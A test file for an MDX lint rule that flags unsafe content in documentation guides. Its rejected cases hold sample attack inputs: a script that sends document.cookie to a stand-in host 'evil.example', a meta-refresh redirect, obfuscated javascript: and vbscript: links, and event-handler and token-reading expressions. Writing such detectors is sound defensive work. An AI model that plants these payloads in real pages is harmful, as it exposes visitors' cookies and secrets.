import { describe, expect, test } from 'vitest';
import { finding, findings, run } from '../../../../tests/helpers/playbook.ts';
import type { ConfigInput } from '../../../schema/index.ts';
import { rule } from './unsafe-mdx.ts';

/** A guide whose body starts on line 4. */
const guide = (body: string) => ({ 'guides/start.mdx': `---\ntitle: Getting started\n---\n${body}` });
const withCallout: ConfigInput = { mdx: { components: ['Callout', 'Figure'] } };

interface Invalid {
  messageId: string;
  name: string;
  body: string;
  config?: ConfigInput;
  line: number;
  column: number;
  /** Values the message gives: the construct, the element, the attribute, the code, the scheme. */
  says: string[];
  /** Values the hint gives: the advice for an element, the suggestion and the allowed components. */
  advice?: string[];
}

describe('unsafe-mdx', () => {
  test.each<{ name: string; body: string; config?: ConfigInput }>([
    {
      name: 'Markdown and GFM',
      body: '# Title\n\n**Bold**, _italic_, ~~struck~~.\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n- [ ] task\n\nNote[^1].\n\n[^1]: Footnote.\n',
    },
    {
      name: 'lowercase HTML elements',
      body: '<details>\n<summary>More</summary>\n\n<div className="note">Text</div>\n\n</details>\n\n<img src="/images/chart.png" alt="Chart" />\n',
    },
    {
      name: 'safe links and images',
      body: '[Site](https://example.com) [Mail](mailto:a@example.com) [Guide](/guides/start/) [Up](#top) [Rel](../personas/x.mdx)\n\n![Logo](/images/logo.png)\n\n[ref]: https://example.com\n',
    },
    {
      name: 'an <a> with an https address',
      body: '<a href="https://example.com" title="data: the new oil">Read</a>\n',
    },
    {
      name: 'an allow-listed component',
      body: '<Callout type="tip">\n\nUse the fit check.\n\n</Callout>\n',
      config: withCallout,
    },
    { name: 'a fragment', body: '<>Text</>\n' },
    { name: 'escaped braces', body: 'Write \\{ and \\} for braces.\n' },
    { name: 'an attribute named like a word starting with "on"', body: '<div title="online">x</div>\n' },
  ])('accepts $name', ({ body, config }) => {
    expect(run(guide(body), rule, { config })).toEqual([]);
  });

  test.each<Invalid>([
    {
      messageId: 'esm',
      name: 'an import',
      body: 'import Chart from "../../rules/chart.js"\n\nText.\n',
      line: 4,
      column: 1,
      says: ['"import"'],
    },
    {
      messageId: 'esm',
      name: 'an export',
      body: 'Text.\n\nexport const secret = process.env.TOKEN\n',
      line: 6,
      column: 1,
      says: ['"export"'],
    },
    {
      messageId: 'expression',
      name: 'an expression in text',
      body: 'The TAM is {1000 * 12} accounts.\n',
      line: 4,
      column: 12,
      says: ['({1000 * 12})'],
    },
    {
      messageId: 'expression',
      name: 'an expression on its own line',
      body: 'Intro.\n\n{process.env.GITHUB_TOKEN}\n',
      line: 6,
      column: 1,
      says: ['({process.env.GITHUB_TOKEN})'],
    },
    {
      messageId: 'comment',
      name: 'an MDX comment',
      body: '{/* reviewer note */}\n\nText.\n',
      line: 4,
      column: 1,
      says: ['({/* reviewer note */})'],
    },
    {
      messageId: 'element',
      name: 'a <script> element',
      body: 'Text.\n\n<script>fetch("https://evil.example/?" + document.cookie)</script>\n',
      line: 6,
      column: 1,
      says: ['<script>'],
      advice: ['cannot run scripts'],
    },
    {
      messageId: 'element',
      name: 'a <STYLE> element in capitals',
      body: '<STYLE>.nav \\{ display: none \\}</STYLE>\n',
      line: 4,
      column: 1,
      says: ['<STYLE>'],
      advice: ['theme styles every page'],
    },
    {
      messageId: 'element',
      name: 'an <iframe>',
      body: '<iframe src="https://example.com/embed" />\n',
      line: 4,
      column: 1,
      says: ['<iframe>'],
      advice: ['Link to the page instead'],
    },
    {
      messageId: 'element',
      name: 'an inline <object>',
      body: 'See <object data="/files/deck.pdf">deck</object>.\n',
      line: 4,
      column: 5,
      says: ['<object>'],
      advice: ['Link to the file instead'],
    },
    {
      messageId: 'element',
      name: 'a <form>',
      body: '<form action="https://example.com/collect">\n\nEmail\n\n</form>\n',
      line: 4,
      column: 1,
      says: ['<form>'],
      advice: ['Link to the form instead'],
    },
    {
      messageId: 'element',
      name: 'a <meta> refresh',
      body: '<meta httpEquiv="refresh" content="0; url=https://evil.example" />\n',
      line: 4,
      column: 1,
      says: ['<meta>'],
      advice: ['sets page metadata itself'],
    },
    {
      messageId: 'eventHandler',
      name: 'an event handler attribute',
      body: '<img src="chart.png" onError="alert(1)" />\n',
      line: 4,
      column: 22,
      says: ['<img>', '"onError"'],
    },
    {
      messageId: 'eventHandler',
      name: 'a lowercase event handler on a later line',
      body: '<div\n  title="x"\n  onmouseover="steal()"\n>\n  Hover\n</div>\n',
      line: 6,
      column: 3,
      says: ['<div>', '"onmouseover"'],
    },
    {
      messageId: 'spread',
      name: 'a spread attribute',
      body: '<div {...props}>x</div>\n',
      line: 4,
      column: 6,
      says: ['<div>', '({...props})'],
    },
    {
      messageId: 'attributeExpression',
      name: 'an attribute set to an expression',
      body: '<a href={"https://example.com"}>x</a>\n',
      line: 4,
      column: 4,
      says: ['"href"', '<a>', '({"https://example.com"})'],
      advice: ['href='],
    },
    {
      messageId: 'url',
      name: 'a javascript: link',
      body: 'Click [here](javascript:alert(document.cookie)).\n',
      line: 4,
      column: 7,
      says: ['link', '"javascript:"'],
    },
    {
      messageId: 'url',
      name: 'a javascript: link hidden by a character reference',
      body: '[here](java&#10;script:alert(1))\n',
      line: 4,
      column: 1,
      says: ['"javascript:"'],
    },
    {
      messageId: 'url',
      name: 'a data: image',
      body: '![Chart](data:image/svg+xml;base64,PHN2Zz4=)\n',
      line: 4,
      column: 1,
      says: ['image', '"data:"'],
    },
    {
      messageId: 'url',
      name: 'a vbscript: link definition',
      body: 'See [the form][f].\n\n[f]: VBScript:MsgBox("hi")\n',
      line: 6,
      column: 1,
      says: ['link definition "[f]"', '"vbscript:"'],
    },
    {
      messageId: 'url',
      name: 'a javascript: href with a tab reference, mixed case and spaces',
      body: '<a href="  JaVa&#x09;ScRiPt:alert(1)">x</a>\n',
      line: 4,
      column: 4,
      says: ['"href" attribute of <a>', '"javascript:"'],
    },
    {
      messageId: 'url',
      name: 'a data: address in srcset',
      body: '<img srcset="/images/a.png 1x, data:image/png;base64,AAAA 2x" alt="" />\n',
      line: 4,
      column: 6,
      says: ['"srcset" attribute of <img>', '"data:"'],
    },
    {
      messageId: 'component',
      name: 'a component when none is allowed',
      body: '<Chart kind="bar" />\n',
      line: 4,
      column: 1,
      says: ['<Chart>'],
      advice: ['none'],
    },
    {
      messageId: 'component',
      name: 'a misspelt component',
      body: 'Text <Calout>tip</Calout>.\n',
      config: withCallout,
      line: 4,
      column: 6,
      says: ['<Calout>'],
      advice: ['Did you mean <Callout>? ', '<Callout>, <Figure>'],
    },
    {
      messageId: 'component',
      name: 'a member-expression component',
      body: '<Icons.Warning />\n',
      config: withCallout,
      line: 4,
      column: 1,
      says: ['<Icons.Warning>'],
      advice: ['<Callout>, <Figure>'],
    },
  ])('reports $name ($messageId)', ({ messageId, body, config, line, column, says, advice = [] }) => {
    const files = guide(body);
    const expected = finding(rule, 'guides/start.mdx', messageId, line, column);
    expect(findings(files, rule, { config })).toEqual([expected]);
    const [diagnostic] = run(files, rule, { config });
    for (const value of says) expect(diagnostic!.message).toContain(value);
    for (const value of advice) expect(diagnostic!.hint).toContain(value);
  });

  test('reports each construct once, at its own position', () => {
    const body = '<script onload={run} {...p}>{code}</script>\n';
    expect(findings(guide(body), rule)).toEqual([
      finding(rule, 'guides/start.mdx', 'element', 4, 1),
      finding(rule, 'guides/start.mdx', 'eventHandler', 4, 9),
      finding(rule, 'guides/start.mdx', 'spread', 4, 22),
      finding(rule, 'guides/start.mdx', 'expression', 4, 29),
    ]);
  });

  test('checks the bodies of every content type', () => {
    const files = {
      ...guide('Fine.\n'),
      'glossary/tam.mdx': '---\nterm: TAM\nshort: Total addressable market.\n---\n{1}\n',
    };
    expect(findings(files, rule)).toEqual([finding(rule, 'glossary/tam.mdx', 'expression', 5, 1)]);
  });
});
